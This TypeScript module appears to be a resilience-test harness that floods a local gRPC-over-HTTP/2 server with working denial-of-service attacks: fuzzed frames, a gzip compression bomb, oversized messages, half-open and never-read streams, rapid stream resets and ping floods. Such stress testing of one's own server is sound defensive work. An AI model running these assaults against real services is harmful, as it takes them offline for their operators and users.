import { once, type EventEmitter } from 'node:events';
import { connect as connectHttp2, type ClientHttp2Session, type ClientHttp2Stream } from 'node:http2';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { frame } from '#dev/bench';

/** An attack on a server, and its duration. */
export interface Attack {
  readonly name: AttackName;
  readonly address: string;
  /** The method that is called. */
  readonly path: string;
  readonly token: string;
  readonly durationMs: number;
}

/**
 * Whoever attacks is somebody else than those who are served, so it has another address: all of 127.0.0.0/8 are this machine's
 * on Linux. Elsewhere they share one, and new connections of the others suffer with it.
 */
const from = process.platform === 'linux' ? { localAddress: '127.0.0.2' } : {};

type Assault = (attack: Attack) => Promise<void>;

/** Until it is closed, well or not, but no longer than that. */
async function endOf(connection: EventEmitter, giveUpAfterMs: number): Promise<void> {
  await Promise.race([once(connection, 'close').catch(() => undefined), pause(giveUpAfterMs)]);
}

function openSocket({ address }: Attack): Socket {
  const [host, port] = address.split(':');
  return connect({ port: Number(port), ...(host !== undefined && { host }), ...from });
}

async function openSession(attack: Attack): Promise<ClientHttp2Session> {
  const session = connectHttp2(`http://${attack.address}`, { createConnection: () => openSocket(attack) });
  session.on('error', () => undefined);
  await Promise.race([once(session, 'remoteSettings'), once(session, 'close')]).catch(() => undefined);
  return session;
}

function begin(
  session: ClientHttp2Session,
  { path, token }: Attack,
  headers: Record<string, string> = {},
): ClientHttp2Stream | undefined {
  if (session.closed || session.destroyed) return undefined;
  const stream = session.request({
    ':method': 'POST',
    ':path': path,
    'content-type': 'application/grpc',
    te: 'trailers',
    authorization: `Bearer ${token}`,
    ...headers,
  });
  stream.on('error', () => undefined).resume();
  return stream;
}

/** Again and again, on a new connection whenever the last has been closed. */
async function repeat(attack: Attack, step: (session: ClientHttp2Session) => Promise<void>): Promise<void> {
  const until = performance.now() + attack.durationMs;
  let session = await openSession(attack);
  while (performance.now() < until) {
    if (session.closed || session.destroyed) session = await openSession(attack);
    await step(session);
  }
  session.destroy();
}

/** Leaves connections open for the whole time, each with what was begun on it. */
async function hold(attack: Attack, count: number, start: (session: ClientHttp2Session) => void): Promise<void> {
  const sessions = await Promise.all(Array.from({ length: count }, async () => openSession(attack)));
  sessions.forEach(start);
  await pause(attack.durationMs);
  sessions.forEach((session) => session.destroy());
}

async function sendWhole(
  session: ClientHttp2Session,
  attack: Attack,
  body: Buffer,
  headers: Record<string, string> = {},
): Promise<void> {
  const stream = begin(session, attack, headers);
  stream?.end(body);
  if (stream !== undefined) await endOf(stream, 1000);
}

const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]),
]);

/** Any bytes that have the shape of a frame; one in ten lies about its length. */
function mutatedFrame(): Buffer {
  const below = (limit: number): number => Math.floor(Math.random() * limit);
  const body = Buffer.from(Array.from({ length: below(40) }, () => below(256)));
  const length = below(10) === 0 ? below(0xff_ffff) : body.length;
  return Buffer.concat([
    Buffer.from([length >> 16, (length >> 8) & 255, length & 255, below(12), below(256), 0, 0, 0, below(4)]),
    body,
  ]);
}

/** Small on the wire. */
const makeBomb = (): Buffer => frame(gzipSync(Buffer.alloc(64 * 2 ** 20)), true);

const assaults = {
  'mutated frames': async (attack) => {
    const until = performance.now() + attack.durationMs;
    while (performance.now() < until) {
      const socket = openSocket(attack);
      socket.on('error', () => undefined).resume();
      socket.end(Buffer.concat([preface, ...Array.from({ length: 20 }, mutatedFrame)]));
      await endOf(socket, 50);
      socket.destroy();
    }
  },
  'messages of 5 MiB': async (attack) => {
    const large = frame(Buffer.alloc(5 * 2 ** 20));
    await repeat(attack, async (session) => sendWhole(session, attack, large));
  },
  'compressed 64 MiB': async (attack) => {
    const bomb = makeBomb();
    await repeat(attack, async (session) => sendWhole(session, attack, bomb, { 'grpc-encoding': 'gzip' }));
  },
  'half-open streams': async (attack) => {
    await hold(attack, 20, (session) => {
      for (let count = 0; count < 1000; count += 1) begin(session, attack);
    });
  },
  'rapid reset': (attack) =>
    repeat(attack, async (session) => {
      for (let count = 0; count < 100; count += 1) begin(session, attack)?.close(8);
      await pause(1);
    }),
  'flood of pings': (attack) =>
    repeat(attack, async (session) => {
      for (let count = 0; count < 10 && !session.destroyed; count += 1) session.ping(() => undefined);
      await pause(1);
    }),
  'readers of nothing': async (attack) => {
    const empty = frame(Buffer.alloc(0));
    await hold(attack, 4, (session) => {
      for (let count = 0; count < 50; count += 1) begin(session, attack)?.pause().end(empty);
    });
  },
} satisfies Record<string, Assault>;

export type AttackName = keyof typeof assaults;
export const attackNames = Object.keys(assaults) as AttackName[];

export async function assault(attack: Attack): Promise<void> {
  await assaults[attack.name](attack);
}
